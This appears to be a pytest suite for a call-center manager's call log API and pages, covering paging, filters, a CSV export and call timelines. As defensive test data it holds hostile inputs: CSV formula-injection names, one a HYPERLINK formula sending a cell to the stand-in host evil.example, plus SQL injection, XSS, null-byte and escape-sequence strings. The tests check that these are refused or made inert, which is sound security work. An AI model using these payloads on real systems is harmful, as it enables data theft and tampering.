"""The manager's call log through the API and its pages, on a real server and a real SQLite
file: filters (a caller's number in any common form, direction, time, codes), keyset pages
that never repeat or skip a call, hostile parameters answered 422 naming the field (never
echoing it), the CSV streamed with a header and formula-like cells made text, and a call's
timeline with its ticket (never its access data) and its callback's attempts."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from sqlalchemy import insert
from web_support import Account, LiveServer, login_cookie

from callcenter.store import db
from callcenter.store.models import (
    CallbackAttemptRow,
    CallbackRow,
    CallRingRow,
    CallRow,
    TicketRow,
)

T0 = datetime(2026, 11, 24, 8, 0, tzinfo=UTC)  # 09:00 Warsaw
KRAKOW = "+48123456789"  # 12 345 67 89
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"kliknij")', "+48 cmd", "-2+3",
                 "@SUM(A1)", "\tukryte", "\rpowrót"]  # fmt: skip


def _calls(count: int) -> list[dict[str, Any]]:
    rows = []
    for i in range(count):
        rows.append(
            {
                "id": i + 1,
                "linkedid": f"L{i:04d}",
                # pairs share an arrival second: the keyset breaks the tie by id
                "arrived_at": T0 + timedelta(minutes=(i // 2) * 10),
                "caller_raw": "123456789" if i % 3 == 0 else "601234567",
                "caller_e164": KRAKOW if i % 3 == 0 else "+48601234567",
                "caller_name": HOSTILE_NAMES[i % len(HOSTILE_NAMES)],
                "route": "queue" if i % 4 != 3 else "closed",
                "reason": "covered" if i % 4 != 3 else "outside_hours",
                "outcome": ("answered", "abandoned", "unanswered", "rejected")[i % 4],
                "operator": "op1" if i % 4 == 0 else None,
                "contract": "CC-2026-001" if i % 5 == 0 else "CC-2026-002",
                "direction": "callback" if i % 10 == 9 else "inbound",
                "state": "ended",
            }
        )
    return rows


@pytest.fixture
def log(live_server: LiveServer) -> list[dict[str, Any]]:
    """60 calls over five hours of one day, written straight into the store."""
    rows = _calls(60)
    engine = db.make_engine(live_server.settings.database_url)
    with engine.begin() as connection:
        connection.execute(insert(CallRow), rows)
    engine.dispose()
    return rows


@pytest.fixture
def manager(live_server: LiveServer, make_user: Callable[..., Account]) -> Iterator[httpx.Client]:
    account = make_user("boss", "manager")
    with live_server.client() as http:
        login_cookie(http, account)
        yield http


def _pages(http: httpx.Client, params: dict[str, str], limit: int) -> list[int]:
    seen: list[int] = []
    cursor = None
    for _ in range(200):
        query = {**params, "limit": str(limit), **({"cursor": cursor} if cursor else {})}
        answer = http.get("/api/calls", params=query)
        assert answer.status_code == 200, answer.text
        body = answer.json()
        assert len(body["calls"]) <= limit
        seen += [c["id"] for c in body["calls"]]
        cursor = body["next"]
        if cursor is None:
            return seen
    raise AssertionError("paging did not end")


def _newest_first(rows: list[dict[str, Any]], keep: Callable[[dict[str, Any]], bool]) -> list[int]:
    chosen = [r for r in rows if keep(r)]
    return [r["id"] for r in sorted(chosen, key=lambda r: (r["arrived_at"], r["id"]), reverse=True)]


def test_keyset_pages_never_repeat_or_skip_a_call(manager: httpx.Client, log: list[Any]) -> None:
    everything = _newest_first(log, lambda r: True)
    for limit in (1, 7, 50, 500):
        assert _pages(manager, {}, limit) == everything
    # Each item carries the fields of `callcenter calls list --json`.
    first = manager.get("/api/calls", params={"limit": "1"}).json()["calls"][0]
    assert {"id", "linkedid", "caller", "caller_name", "number", "route", "reason", "contract",
            "outcome", "arrived", "wait_seconds", "talk_seconds", "operator", "rings",
            "callback", "direction"} <= set(first)  # fmt: skip


@pytest.mark.parametrize("typed", ["0048 12 345 67 89", "+48123456789", "123-456-789",
                                   "(12) 345 67 89", "48123456789"])  # fmt: skip
def test_a_callers_number_in_any_common_form_finds_the_same_calls(
    manager: httpx.Client, log: list[Any], typed: str
) -> None:
    assert _pages(manager, {"number": typed}, 9) == _newest_first(
        log, lambda r: r["caller_e164"] == KRAKOW
    )


def test_filters_by_direction_codes_contract_operator_and_time(
    manager: httpx.Client, log: list[Any]
) -> None:
    assert _pages(manager, {"direction": "callback"}, 4) == _newest_first(
        log, lambda r: r["direction"] == "callback"
    )
    assert _pages(manager, {"direction": "inbound", "outcome": "abandoned"}, 5) == _newest_first(
        log, lambda r: r["direction"] == "inbound" and r["outcome"] == "abandoned"
    )
    assert _pages(manager, {"route": "closed", "reason": "outside_hours"}, 50) == _newest_first(
        log, lambda r: r["route"] == "closed"
    )
    assert _pages(manager, {"reason": "covered", "operator": "op1"}, 50) == _newest_first(
        log, lambda r: r["reason"] == "covered" and r["operator"] == "op1"
    )
    assert _pages(manager, {"contract": "CC-2026-001"}, 3) == _newest_first(
        log, lambda r: r["contract"] == "CC-2026-001"
    )
    # Naive times are Warsaw's: 10:00-11:00 Warsaw is 09:00-10:00 UTC.
    since, until = T0 + timedelta(hours=1), T0 + timedelta(hours=2)
    window = {"since": "2026-11-24T10:00", "until": "2026-11-24 11:00"}
    assert _pages(manager, window, 4) == _newest_first(
        log, lambda r: since <= r["arrived_at"] < until
    )
    # A date alone is that whole day (`until` included).
    assert _pages(manager, {"since": "2026-11-24", "until": "2026-11-24"}, 500) == _newest_first(
        log, lambda r: True
    )
    assert _pages(manager, {"until": "2026-11-23"}, 50) == []
    assert _pages(manager, {"since": "2026-11-24T08:00:00Z", "until": "2026-11-24T08:10:00Z"},
                  50) == [2, 1]  # fmt: skip


HOSTILE = [
    ("since", "2026-13-01"),
    ("since", "'; DROP TABLE calls; --"),
    ("until", "<script>alert(1)</script>"),
    ("until", "0001-01-01"),
    ("outcome", "ANSWERED' OR 1=1"),
    ("route", "queue\x00"),
    ("reason", "x" * 5000),
    ("direction", "outbound"),
    ("contract", "A" * 65),
    ("operator", "op1\x1b[31m"),
    ("number", "not-a-number"),
    ("number", "12"),
    ("number", "+48 601 234 567 89 00 11 22 33 44 55"),
    ("cursor", "junk"),
    ("cursor", "99999999999999999999999.1"),
    ("limit", "0"),
    ("limit", "501"),
    ("limit", "1e3"),
    ("limit", "-5"),
    ("limit", "٣"),  # an Arabic-Indic digit three
]


@pytest.mark.parametrize(("field", "value"), HOSTILE)
def test_hostile_parameters_are_refused_naming_the_field(
    manager: httpx.Client, log: list[Any], field: str, value: str
) -> None:
    for path in ("/api/calls", "/api/calls.csv"):
        if path.endswith(".csv") and field in ("cursor", "limit"):
            continue  # the export takes the whole filter, no page
        answer = manager.get(path, params={field: value})
        assert answer.status_code == 422, (path, field, answer.text)
        [problem] = answer.json()["detail"]
        assert problem["field"] == field
        assert value not in answer.text or len(value) < 3
    page = manager.get("/calls", params={field: value})
    assert page.status_code == 422
    assert f'data-field="{field}"' in page.text
    assert "<script>alert" not in page.text


def test_until_before_since_is_refused(manager: httpx.Client) -> None:
    answer = manager.get("/api/calls", params={"since": "2026-11-24", "until": "2026-11-23"})
    assert answer.status_code == 422 and answer.json()["detail"][0]["field"] == "until"


def test_the_csv_has_a_header_every_call_and_no_formula(
    manager: httpx.Client, log: list[Any]
) -> None:
    with manager.stream("GET", "/api/calls.csv", params={"direction": "inbound"}) as answer:
        assert answer.status_code == 200
        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
        assert answer.headers["content-disposition"] == 'attachment; filename="polaczenia.csv"'
        assert "content-length" not in answer.headers  # streamed, not built whole
        body = b"".join(answer.iter_bytes()).decode("utf-8")
    rows = list(csv.reader(io.StringIO(body, newline="")))
    header, data = rows[0], rows[1:]
    assert header[:3] == ["id", "arrived", "direction"]
    assert [int(r[0]) for r in data] == _newest_first(log, lambda r: r["direction"] == "inbound")
    names = {r[header.index("caller_name")] for r in data}
    for name in HOSTILE_NAMES:
        assert "'" + name in names  # made text: a spreadsheet shows it, runs nothing
    for row in data:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_csv_streams_a_log_larger_than_one_batch(
    live_server: LiveServer, manager: httpx.Client
) -> None:
    rows = _calls(2500)  # 2.5 batches of the keyset walk
    engine = db.make_engine(live_server.settings.database_url)
    with engine.begin() as connection:
        connection.execute(insert(CallRow), rows)
    engine.dispose()
    chunks = 0
    text = []
    with manager.stream("GET", "/api/calls.csv") as answer:
        for chunk in answer.iter_text():
            chunks += 1
            text.append(chunk)
    data = list(csv.reader(io.StringIO("".join(text), newline="")))[1:]
    assert [int(r[0]) for r in data] == _newest_first(rows, lambda r: True)
    assert chunks > 1


def test_a_calls_entry_has_its_timeline_ticket_and_callback_attempts(
    live_server: LiveServer, manager: httpx.Client, make_user: Callable[..., Account]
) -> None:
    engine = db.make_engine(live_server.settings.database_url)
    with db.transaction(db.sessions(engine)) as s:
        callback = CallbackRow(caller_e164=KRAKOW, contract="CC-2026-001", first_call_at=T0,
                               last_call_at=T0, due_at=T0 + timedelta(days=1),
                               created_at=T0 + timedelta(seconds=50))  # fmt: skip
        s.add(callback)
        s.flush()
        missed = CallRow(
            linkedid="M1", caller_raw="123456789", caller_e164=KRAKOW, route="queue",
            reason="covered", rule="queue", why="contract CC-2026-001 covers phone calls",
            contract="CC-2026-001", arrived_at=T0, decided_at=T0, queued_at=T0 + timedelta(seconds=3),
            ended_at=T0 + timedelta(seconds=50), queue_left_at=T0 + timedelta(seconds=48),
            queue_abandoned=True, outcome="abandoned", state="ended", callback_id=callback.id,
            rings=[CallRingRow(position=0, endpoint="op1", started_at=T0 + timedelta(seconds=3),
                               seconds=15.0, result="no_answer")],
        )  # fmt: skip
        s.add(missed)
        s.add(CallbackAttemptRow(callback_id=callback.id, operator="op2", linkedid="cb-1",
                                 started_at=T0 + timedelta(minutes=10),
                                 ended_at=T0 + timedelta(minutes=10, seconds=30),
                                 result="no_answer"))  # fmt: skip
        answered = CallRow(linkedid="A1", caller_e164=KRAKOW, route="queue", reason="covered",
                           arrived_at=T0 + timedelta(hours=1), answered_at=T0 + timedelta(hours=1, seconds=9),
                           ended_at=T0 + timedelta(hours=1, minutes=3), operator="op1",
                           outcome="answered", state="ended")  # fmt: skip
        s.add(answered)
        s.flush()
        s.add(TicketRow(status="draft", kind="answer", received_at=answered.answered_at,
                        call_id=answered.id, operator="op1",
                        created_at=answered.ended_at))  # fmt: skip
        missed_id, answered_id = missed.id, answered.id
    engine.dispose()

    entry = manager.get(f"/api/calls/{missed_id}").json()
    assert [s["kind"] for s in entry["timeline"]] == [
        "arrived", "decided", "queued", "rung", "abandoned", "ended", "callback",
        "callback_attempt",
    ]  # fmt: skip
    decided = entry["timeline"][1]
    assert (decided["route"], decided["reason"], decided["rule"]) == ("queue", "covered", "queue")
    assert decided["why"] == "contract CC-2026-001 covers phone calls"
    assert entry["timeline"][3] == {"at": "2026-11-24T09:00:03+01:00", "kind": "rung",
                                    "operator": "op1", "seconds": 15.0, "result": "no_answer"}  # fmt: skip
    assert entry["timeline"][4]["seconds"] == 45.0
    assert entry["callback"] == entry["callback_entry"]["id"]
    assert entry["callback_entry"]["attempts"] == [
        {"operator": "op2", "started": "2026-11-24T09:10:00+01:00",
         "ended": "2026-11-24T09:10:30+01:00", "result": "no_answer"}
    ]  # fmt: skip
    assert entry["ticket"] is None

    other = manager.get(f"/api/calls/{answered_id}").json()
    assert other["ticket"]["status"] == "draft" and "access" not in other["ticket"]
    assert [s["kind"] for s in other["timeline"]][-3:] == ["answered", "ended", "ticket"]

    # The operator's screen reads the same entry (operators may); the log is managers' only.
    op = make_user("op1", "operator", endpoint="op1")
    with live_server.client() as http:
        login_cookie(http, op)
        assert http.get(f"/api/calls/{answered_id}").json()["ticket"]["id"] == other["ticket"]["id"]
        assert http.get("/api/calls").status_code == 403
        assert http.get("/api/calls.csv").status_code == 403
        assert http.get(f"/calls/{answered_id}").status_code == 403
    assert manager.get("/api/calls/999999").status_code == 404

    # The pages: the call's timeline in Polish words.
    html = manager.get(f"/calls/{missed_id}").text
    for words in ("Przebieg", "Dzwonił telefon", "Klient rozłączył się w kolejce",
                  "Próba oddzwonienia", "po 45 s czekania", "Oddzwonienie nr"):  # fmt: skip
        assert words in html, words
    assert manager.get("/calls/999999").status_code == 404


def test_the_log_page_keeps_its_filters_on_the_next_page_and_the_csv_link(
    manager: httpx.Client, log: list[Any]
) -> None:
    html = manager.get("/calls", params={"number": "123-456-789", "limit": "3"}).text
    assert 'rel="next"' in html and "Następna strona" in html
    start = html.index('href="/calls?', html.index("Następna strona") - 300)
    next_url = html[start + 6 : html.index('"', start + 6)].replace("&amp;", "&")
    assert "number=123-456-789" in next_url and "cursor=" in next_url
    second = manager.get(next_url)
    assert second.status_code == 200
    expected = _newest_first(log, lambda r: r["caller_e164"] == KRAKOW)
    shown = [int(part.split('"')[0]) for part in second.text.split('data-call="')[1:]]
    assert shown == expected[3:6]  # page 2 of size 3, the filter kept
    assert 'href="/api/calls.csv?number=123-456-789"' in html


def test_an_id_past_any_row_is_refused_or_not_found_never_a_500(manager: httpx.Client) -> None:
    # The store's ids are 32-bit: a larger number would overflow the database's comparison.
    for huge in ("99999999999999999999999", "9223372036854775808", "2147483648", "0", "-1", "x"):
        assert manager.get(f"/api/calls/{huge}").status_code == 422, huge
        page = manager.get(f"/calls/{huge}")  # a page, not an answer in JSON
        assert page.status_code == 404, huge
        assert "Nie ma takiej strony" in page.text and "text/html" in page.headers["content-type"]
